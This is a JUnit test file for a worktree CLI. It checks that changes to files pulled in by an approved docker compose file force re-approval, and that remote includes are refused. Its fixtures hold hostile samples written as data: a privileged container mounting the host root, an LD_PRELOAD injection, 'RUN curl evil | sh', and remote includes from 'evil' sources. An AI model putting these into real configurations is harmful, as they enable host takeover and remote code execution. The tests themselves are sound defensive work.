package dev.wt.cli;

import static dev.wt.testing.Checks.assertRefusal;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.wt.testing.GitRepo;
import dev.wt.testing.WtRun;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Approving a compose file approves every local file it pulls in ({@code include}, {@code env_file},
 * {@code extends: file:}, the {@code .env} docker substitutes from, a build context's Dockerfile):
 * a later commit to any of them asks again before docker runs. A remote include cannot be approved
 * at all. A fake docker (WT_DOCKER) logs its calls and starts nothing.
 */
class ComposeFilesTrustTest {

  private static final String SERVICES = "project = \"cft\"\n[postgres]\nmode = \"none\"\n[services]\n"
      + "compose_file = \"compose.yml\"\n";
  private static final String EVIL = "services:\n  evil:\n    image: alpine\n    privileged: true\n"
      + "    volumes: [\"/:/host\"]\n";

  @TempDir Path tmp;
  GitRepo repo;
  Path log;
  Map<String, String> env;

  @BeforeEach
  void repositoryWithAFakeDocker() throws IOException {
    repo = GitRepo.create(tmp, "cft");
    log = tmp.resolve("docker.log");
    Path docker = tmp.resolve("docker");
    Files.writeString(docker, """
        #!/bin/sh
        echo "$*" >> '%s'
        case "$1 $2" in
          info*|"compose version") echo 27.0; exit 0 ;;
        esac
        echo "fake docker: not started" >&2
        exit 1
        """.formatted(log));
    assertTrue(docker.toFile().setExecutable(true));
    env = new HashMap<>(Map.of("XDG_STATE_HOME", tmp.resolve("state").toString(), "WT_TRUST", "", "WT_DOCKER",
        docker.toString(), "WT_PG_MODE", "", "WT_PG_IMAGE", ""));
  }

  private WtRun wt(String... args) {
    return WtRun.in(repo.root(), env, args);
  }

  /** The compose runs docker was asked for (not whether an engine answers). */
  private List<String> composeRuns() throws IOException {
    return !Files.exists(log) ? List.of()
        : Files.readAllLines(log).stream().filter(l -> l.startsWith("compose") && l.contains(" up")).toList();
  }

  /** A compose file, the file it pulls in, and how: each a way docker reads another local file. */
  static Stream<Arguments> pulledIn() {
    return Stream.of(
        Arguments.of("include", "include: [extra.yml]\nservices:\n  web:\n    image: nginx\n", "extra.yml",
            "services:\n  cache:\n    image: redis\n", EVIL),
        Arguments.of("include of an include", "include:\n  - conf/extra.yml\n", "conf/deeper.yml",
            "services:\n  cache:\n    image: redis\n", EVIL),
        Arguments.of("env_file", "services:\n  web:\n    image: nginx\n    env_file: web.env\n", "web.env",
            "A=1\n", "LD_PRELOAD=/host/evil.so\n"),
        Arguments.of("extends", "services:\n  web:\n    extends:\n      file: common.yml\n      service: base\n",
            "common.yml", "services:\n  base:\n    image: nginx\n",
            "services:\n  base:\n    image: alpine\n    privileged: true\n"),
        Arguments.of(".env beside it", "services:\n  web:\n    image: ${IMAGE}\n", ".env", "IMAGE=nginx\n",
            "IMAGE=evil/root\n"),
        Arguments.of("build context", "services:\n  web:\n    build: ./app\n", "app/Dockerfile",
            "FROM nginx\n", "FROM alpine\nRUN curl evil | sh\n"),
        Arguments.of("dockerfile in a context",
            "services:\n  web:\n    build:\n      context: app\n      dockerfile: Dockerfile.dev\n",
            "app/Dockerfile.dev", "FROM nginx\n", "FROM alpine\n"),
        Arguments.of("path through a variable", "include: [\"${WT_PATH}/extra.yml\"]\n", "extra.yml",
            "services:\n  cache:\n    image: redis\n", EVIL));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("pulledIn")
  void a_commit_to_a_file_the_approved_compose_file_pulls_in_asks_again_before_docker_runs(String how,
      String compose, String file, String before, String after) throws IOException {
    repo.write("compose.yml", compose).write(file, before).write("wt.toml", SERVICES);
    if (file.equals("conf/deeper.yml")) {
      repo.write("conf/extra.yml", "include: [deeper.yml]\n");
    }
    repo.commitAll("services");
    WtRun trust = wt("trust", "--yes").ok();
    assertTrue(trust.out().contains(file), "the approval names " + file + ":\n" + trust.out());
    wt("up", "feat/a");
    assertEquals(1, composeRuns().size(), "approved, compose runs: " + composeRuns());

    repo.write(file, after).commitAll("change " + file);
    WtRun r = wt("up", "feat/b").expect(4);
    assertEquals(1, composeRuns().size(), "no compose run after " + file + " changed:\n" + r.err());
    assertRefusal(r, "not approved", "wt trust, then wt setup");
  }

  @Test
  void an_untracked_file_the_compose_file_reads_is_not_the_repositorys_and_voids_no_approval() throws IOException {
    // the env file wt writes in each worktree, read by the service: different in every worktree
    repo.write("compose.yml", "services:\n  web:\n    image: nginx\n    env_file: .env\n")
        .write(".gitignore", ".env\n").write("wt.toml", SERVICES + "[env]\nfile = \".env\"\n").commitAll("services");
    wt("trust", "--yes").ok();
    // (the fake docker runs no container: each up stops after compose, with exit 3, never 4)
    WtRun a = wt("up", "feat/a");
    assertTrue(a.exitCode() != 4, a.err());
    Files.writeString(tmp.resolve("cft-a/.env"), "PORT=3100\n"); // what wt (or the user) writes there, untracked
    WtRun again = WtRun.in(tmp.resolve("cft-a"), env, "setup");
    assertTrue(again.exitCode() != 4, "the worktree's own .env voided the approval:\n" + again.err());
    assertEquals(2, composeRuns().size(), "the approval holds in the worktree: " + composeRuns());
  }

  @Test
  void the_postgres_compose_service_asks_again_when_a_file_it_includes_changes() throws IOException {
    repo.write("docker-compose.yml", "include: [db.yml]\n").write("db.yml", "services:\n  postgres:\n    image: postgres:17\n")
        .write("wt.toml", "project = \"cft\"\n[postgres]\nmode = \"compose\"\n").commitAll("compose mode");
    wt("trust", "--yes").ok();
    repo.write("db.yml", "services:\n  postgres:\n    image: postgres:17\n    privileged: true\n").commitAll("privileged");
    WtRun r = wt("up", "feat/a").expect(4);
    assertEquals(List.of(), composeRuns(), r.err());
    assertTrue(r.err().contains("postgres.compose_file"), r.err());
  }

  @Test
  void a_remote_include_is_refused_even_when_approved_and_docker_never_reads_the_file() throws IOException {
    repo.write("compose.yml", "include:\n  - oci://registry.example/evil:latest\nservices:\n  web:\n    image: nginx\n")
        .write("wt.toml", SERVICES).commitAll("remote include");
    assertTrue(wt("trust").expect(1).out().contains("remote include oci://registry.example/evil:latest"));
    env.put("WT_TRUST", "1");
    // wt up keeps the worktree it made and says its setup stopped (4); wt setup there refuses (1)
    WtRun up = wt("up", "feat/a").expect(4);
    assertTrue(up.err().contains("wt cannot approve a remote include"), up.err());
    WtRun r = WtRun.in(tmp.resolve("cft-a"), env, "setup").expect(1);
    assertEquals(List.of(), composeRuns(), r.err());
    assertRefusal(r, "wt cannot approve a remote include", "copy the included file into the repository");
  }

  @Test
  void a_remote_git_include_of_the_postgres_compose_file_is_refused() throws IOException {
    repo.write("docker-compose.yml", "include:\n  - path: git@github.com:evil/stack.git#main\n")
        .write("wt.toml", "project = \"cft\"\n[postgres]\nmode = \"compose\"\n").commitAll("remote include");
    env.put("WT_TRUST", "1");
    WtRun r = wt("up", "feat/a");
    assertEquals(List.of(), composeRuns(), r.err());
    assertTrue(r.err().contains("git@github.com:evil/stack.git#main"), r.err());
  }
}
